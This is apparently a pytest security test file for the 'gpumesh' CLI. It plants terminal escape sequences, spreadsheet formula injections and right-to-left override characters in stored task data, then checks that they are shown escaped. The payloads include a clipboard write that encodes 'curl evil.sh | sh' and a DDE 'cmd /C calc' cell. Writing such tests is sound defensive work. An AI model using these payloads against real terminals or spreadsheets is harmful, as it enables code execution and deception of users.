"""No control sequence from stored text reaches a terminal, and no CSV cell is a formula.

The attack: strings a task, a submitter or a leaked worker credential stores in Redis (a task's output and
result, its error, a job's name, a worker's host name and device, a result's claimed signer) carry escape
sequences: hide the ``NOT VERIFIED`` mark (red on red), clear the screen and print "all verified", set the window
title, write the clipboard (OSC 52), make a hidden link (OSC 8); or rich markup in a table cell; or a formula in
``results --format csv``. Every command is run as a user runs it, a real process, against a real worker's job.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import redis

from gpumesh.signing import PROOF_FIELD

from ..conftest import Workers, gpumesh, wait_until

pytestmark = pytest.mark.security

HIDE = "\x1b[41;31m"  # red on red: what follows cannot be read
CLEAR = "\x1b[2J\x1b[H"
TITLE = "\x1b]0;all verified\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
LINK = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"
C1 = "\x9b2J"  # an 8-bit CSI
HOSTILE = HIDE + CLEAR + TITLE + CLIPBOARD + LINK + C1 + "all verified"
MARKUP = "[link=http://evil.example]x[/link][on red]"

TASK = """
import json, os, sys
p = json.load(sys.stdin)
hostile = p["hostile"]
print("log " + hostile, file=sys.stderr)
if p["i"] == 1:
    raise SystemExit("failed " + hostile)
open(os.path.join(os.environ["GPUMESH_OUTPUT_DIR"], "out.txt"), "w").write("x")
print(json.dumps("result " + hostile))
"""


def _no_controls(text: str) -> None:
    for c in ("\x1b", "\x07", "\x9b", "\x9d", "\r"):
        assert c not in text, f"{c!r} reached the terminal: {text!r}"


def test_no_control_sequence_or_markup_from_redis_reaches_the_terminal(
    env: dict[str, str], workers: Workers, r: redis.Redis, tmp_path: Path
):
    refused = gpumesh("worker", "--score", "1", "--name", "lab" + TITLE, env=env, timeout=60)
    assert refused.returncode == 2 and len(refused.stderr.strip().splitlines()) == 1, refused.stderr
    _no_controls(refused.stderr)
    assert "a worker's name is 1 to 64 letters" in refused.stderr and "Traceback" not in refused.stderr

    workers.start("--name", "lab-a100")
    (wid,) = r.zrange("gpumesh:workers", 0, -1)
    # What a worker credential may write of its own registration (HSET): its host and device as shown.
    r.hset(f"gpumesh:worker:{wid}", mapping={"hostname": HOSTILE, "device_name": MARKUP})
    script = tmp_path / "task.py"
    script.write_text(TASK)
    payloads = json.dumps([{"i": i, "hostile": HOSTILE} for i in range(2)])
    job = gpumesh("submit", str(script), "--payloads", "-", "--name", HOSTILE + MARKUP, env=env,
                  input=payloads).stdout.strip()  # fmt: skip
    wait_until(lambda: json.loads(gpumesh("status", job, "--json", env=env).stdout)["status"] == "failed", timeout=60)
    # A result forged to hide that it does not verify: its claimed signer carries the sequences.
    r.hset("gpumesh:resultkeys", "worker", "ed25519:" + "A" * 43 + "=")
    proof = {"user": "worker" + HOSTILE, "worker": wid, "attempt": 1, "sig": "x", "files": "x"}
    r.hset(f"{job}-0".join(["gpumesh:task:", ""]), PROOF_FIELD, json.dumps(proof))

    said = {}
    for args in (["logs", job], ["status", job], ["results", job], ["jobs"], ["workers"], ["top", "--once"],
                 ["pull", job, "--to", str(tmp_path / "pulled")]):  # fmt: skip
        ran = gpumesh(*args, env=env, timeout=60)
        assert "Traceback" not in ran.stderr, (args, ran.stderr)
        _no_controls(ran.stdout + ran.stderr)
        said[args[0]] = ran.stdout + ran.stderr
    assert "all verified" in said["logs"] and "\\x1b[41;31m" in said["logs"], said["logs"]  # shown, as text
    assert "\\x1b]0;all verified\\x07" in said["status"], said["status"]
    (row0,) = [line for line in said["results"].splitlines() if "NOT VERIFIED" in line]
    assert "claims worker\\x1b[41;31m" in row0, said["results"]
    assert "cpu " + MARKUP in said["workers"] and "cpu " + MARKUP in said["top"], said["workers"]  # text, not markup
    assert "verified" + MARKUP in said["jobs"], said["jobs"]
    assert "pulled 1 file(s)" in said["pull"], said["pull"]

    # CSV: controls neutralised, and no cell a spreadsheet would run.
    for field, value in (("worker", '=HYPERLINK("http://evil.example","ok")'), ("error", "@SUM(1+1)")):
        r.hset(f"gpumesh:task:{job}-1", field, value)
    r.hset(f"gpumesh:task:{job}-0", "worker", "+1+cmd|' /C calc'!A0")
    r.hset(f"gpumesh:task:{job}-0", "error", "\t=1+1")
    ran = gpumesh("results", job, "--format", "csv", env=env, timeout=60)
    _no_controls(ran.stdout)
    rows = list(csv.DictReader(io.StringIO(ran.stdout)))
    cells = [v for row in rows for v in row.values() if v]
    assert not [v for v in cells if v[0] in "=+@\t" or (v[0] == "-" and not v.lstrip("-").replace(".", "").isdigit())]
    assert {rows[1]["worker"], rows[1]["error"], rows[0]["worker"], rows[0]["error"]} == {
        "'=HYPERLINK(\"http://evil.example\",\"ok\")", "'@SUM(1+1)", "'+1+cmd|' /C calc'!A0", "'\t=1+1",
    }  # fmt: skip


BIDI = "\u202e" + "txt.exe" + "\u202c" + "\u2066" + "\u200f" + "\u061c"
BIDI_TASK = """
import json, sys
p = json.load(sys.stdin)
print("log " + p["bidi"], file=sys.stderr)
print(json.dumps("result " + p["bidi"]))
"""


def test_no_bidirectional_override_from_redis_reaches_the_terminal(
    env: dict[str, str], workers: Workers, tmp_path: Path
):
    """A right-to-left override (U+202E) in a task's result, its log or a job's name reorders what a terminal shows
    ("exe.txt" reads "txt.exe"): `results`, `logs`, `jobs` and `status` show it, and the other bidirectional
    formatting characters, as \\u escapes."""
    workers.start()
    (tmp_path / "bidi.py").write_text(BIDI_TASK)
    payload = json.dumps([{"bidi": BIDI}])
    job = gpumesh("submit", str(tmp_path / "bidi.py"), "--payloads", "-", "--name", "job" + BIDI, "--wait",
                  env=env, input=payload).stdout.split()[0]  # fmt: skip
    shown = "".join(
        p.stdout + p.stderr
        for p in (
            gpumesh("results", job, env=env), gpumesh("logs", job, env=env), gpumesh("jobs", env=env),
            gpumesh("status", job, env=env),
        )
    )  # fmt: skip
    for c in ("\u202e", "\u202c", "\u2066", "\u200f", "\u061c"):
        assert c not in shown, f"{c!r} reached the terminal: {shown!r}"
    assert "\\u202etxt.exe" in shown, shown
